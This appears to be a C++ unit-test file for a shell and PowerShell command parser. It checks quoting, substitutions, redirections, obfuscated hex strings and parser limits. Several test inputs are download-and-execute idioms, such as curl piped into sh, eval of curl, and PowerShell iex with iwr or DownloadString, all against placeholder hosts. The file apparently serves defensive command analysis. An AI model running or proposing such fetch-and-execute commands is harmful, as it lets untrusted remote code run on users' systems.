#include "facts/shell_syntax.h"

#include <gtest/gtest.h>

#include <string>

#include "base/limits.h"

namespace facts {
namespace {

std::string Dump(const ShellText& text, ScriptIndex index);

std::string Dump(const ShellText& text, const ShellWord& word) {
  std::string dump;
  for (const ShellPart& part : word.parts) {
    if (part.kind == ShellPart::Kind::kText) dump += part.text;
    if (part.kind == ShellPart::Kind::kVariable)
      dump += "<" + part.text + (part.fallback.empty() ? "" : ":" + part.fallback) + ">";
    if (part.kind == ShellPart::Kind::kCommand) dump += "$[" + Dump(text, part.script) + "]";
  }
  return dump;
}

std::string Dump(const ShellText& text, const ShellCommand& command) {
  std::string dump;
  const auto add = [&](const std::string& piece) { dump += (dump.empty() ? "" : " ") + piece; };
  for (const ShellAssignment& assignment : command.assignments)
    add(assignment.name + "=" + Dump(text, assignment.value));
  if (command.group) add("{" + Dump(text, *command.group) + "}");
  for (const ShellWord& word : command.words) add("'" + Dump(text, word) + "'");
  for (const ShellRedirect& redirect : command.redirects) {
    constexpr std::string_view kSigns[] = {"<", ">", ">>", ">&", "<<"};
    add(std::to_string(redirect.descriptor) +
        std::string(kSigns[static_cast<std::size_t>(redirect.kind)]) + Dump(text, redirect.target));
  }
  return dump;
}

std::string Dump(const ShellText& text, ScriptIndex index) {
  std::string dump;
  for (const ShellPipeline& pipeline : text.at(index).pipelines) {
    if (!dump.empty()) dump += " ";
    for (std::size_t i = 0; i < pipeline.commands.size(); ++i)
      dump += (i == 0 ? "" : " | ") + Dump(text, pipeline.commands[i]);
    constexpr std::string_view kAfter[] = {";", " &&", " ||", " &"};
    dump += kAfter[static_cast<std::size_t>(pipeline.after)];
  }
  return dump;
}

void Check(std::string_view source, std::string_view expected,
           ShellDialect dialect = ShellDialect::kPosix) {
  const ShellText text = ParseShell(source, dialect);
  std::string dump = Dump(text, ScriptIndex::kRoot);
  for (const ShellProblem problem : text.problems) dump += " !" + std::string(NameOf(problem));
  EXPECT_EQ(dump, expected) << source;
}

TEST(Shell, SplitsCommands) {
  Check("", "");
  Check("node a.js", "'node' 'a.js';");
  Check("a && b || c; d & e", "'a' && 'b' || 'c'; 'd' & 'e';");
  Check("a | b |& c\nd", "'a' | 'b' | 'c'; 'd';");
  Check("a |\n b", "'a' | 'b';");
  Check("a \\\n b # rest", "'a' 'b';");
  Check("echo a#b", "'echo' 'a#b';");
}

TEST(Shell, TakesQuotesOff) {
  Check(R"(echo 'a b' "c $d \"e\"" f\ g "h"i'j')", R"('echo' 'a b' 'c <d> "e"' 'f g' 'hij';)");
  Check(R"(c'u'r"l" x)", "'curl' 'x';");
  Check(R"($'\x63\165rl' a)", "'curl' 'a';");
  Check("echo ${A:-b} ${C} $D-e $1", "'echo' '<A:b>' '<C>' '<D>-e' '<1>';");
  Check("echo ''", "'echo' '';");
}

TEST(Shell, FollowsSubstitutions) {
  Check("sh -c \"$(curl -s x | head)\"", "'sh' '-c' '$['curl' '-s' 'x' | 'head';]';");
  Check("eval `curl x`", "'eval' '$['curl' 'x';]';");
  Check("bash <(curl x)", "'bash' '$['curl' 'x';]';");
  Check("echo $((1 + 2))", "'echo' '$((1 + 2))';");
}

TEST(Shell, ReadsRedirections) {
  Check("a >b 2>&1 <c", "'a' 1>b 2>&1 1<c;");
  Check("a >>b 2>/dev/null &>c", "'a' 1>>b 2>/dev/null -1>c;");
  Check("sh <<EOF\ncurl x\nEOF\nb", "'sh' 1<<curl x\n; 'b';");
  Check("base64 -d <<< aGk=", "'base64' '-d' 1<<aGk=;");
}

TEST(Shell, ReadsGroupsAndEveryBranch) {
  Check("(a; b) | sh", "{'a'; 'b';} | 'sh';");
  Check("{ a; b; } 2>x", "{'a'; 'b';} 2>x;");
  Check("if test -f a; then b; else c; fi", "'test' '-f' 'a'; 'b'; 'c'; 'fi';");
  Check("case $x in linux*) a ;; *) b ;; esac", "'case' '<x>' 'in' 'linux*'; 'a'; 'b'; 'esac';");
  Check("f() { curl x; }; f", "{'curl' 'x';}; 'f';");
}

TEST(Shell, ReadsAssignments) {
  Check("A=1 B=\"x y\" node a", "A=1 B=x y 'node' 'a';");
  Check("A=$(curl x)", "A=$['curl' 'x';];");
  Check("node A=1", "'node' 'A=1';");
}

TEST(Shell, ReadsPowerShell) {
  constexpr auto kPs = ShellDialect::kPowerShell;
  Check("iex (iwr http://x.example -UseBasicParsing)",
        "'iex' '$['iwr' 'http://x.example' '-UseBasicParsing';]';", kPs);
  Check("(New-Object Net.WebClient).DownloadString('u') | iex",
        "'$['New-Object' 'Net.WebClient';].DownloadString$['u';]' | 'iex';", kPs);
  Check("$u = 'a'; & cmd $env:PATH c:\\dir", "u=a; 'cmd' '<env:PATH>' 'c:\\dir';", kPs);
  Check("if ($x) { rm y }", "'if' '$['<x>';]' '$['rm' 'y';]';", kPs);
}

TEST(Shell, SaysWhatItCouldNotFollow) {
  Check("echo 'a", "'echo' 'a'; !unbalanced-quote");
  Check("echo \"a", "'echo' 'a'; !unbalanced-quote");
  Check("(a", "{'a';}; !unbalanced-group");
  Check("a )", "");
}

bool Has(const ShellText& text, ShellProblem problem) {
  return std::find(text.problems.begin(), text.problems.end(), problem) != text.problems.end();
}

TEST(Shell, IsBoundedInDepthNumberAndLength) {
  std::string deep;
  for (int i = 0; i < 100'000; ++i) deep += "$(";
  EXPECT_TRUE(Has(ParseShell(deep, ShellDialect::kPosix), ShellProblem::kTooDeep));
  std::string groups(200'000, '(');
  EXPECT_TRUE(Has(ParseShell(groups, ShellDialect::kPosix), ShellProblem::kTooDeep));
  std::string many;
  for (std::size_t i = 0; i <= limits::kShellCommands; ++i) many += "a;";
  EXPECT_TRUE(Has(ParseShell(many, ShellDialect::kPosix), ShellProblem::kTooMany));
  EXPECT_TRUE(Has(ParseShell(std::string(limits::kShellTextBytes + 1, 'a'), ShellDialect::kPosix),
                  ShellProblem::kTooLong));
  std::string here;
  for (std::size_t i = 0; i <= limits::kShellHereDocuments; ++i) here += "a <<E;";
  EXPECT_TRUE(Has(ParseShell(here + "\n", ShellDialect::kPosix), ShellProblem::kTooMany));
}

TEST(Shell, EndsOnEveryTruncation) {
  const std::string text =
      "A=1 if (x) { y `z` \"q ${a:-b} $(c 'd' <<E)\" } <<< $'\\x41\\101' 2>&1 &> f && case a in b) "
      "c;; "
      "esac\nE\n";
  for (std::size_t size = 0; size <= text.size(); ++size) {
    for (const ShellDialect dialect : {ShellDialect::kPosix, ShellDialect::kPowerShell})
      EXPECT_FALSE(ParseShell(text.substr(0, size), dialect).scripts.empty());
  }
}

}  // namespace
}  // namespace facts
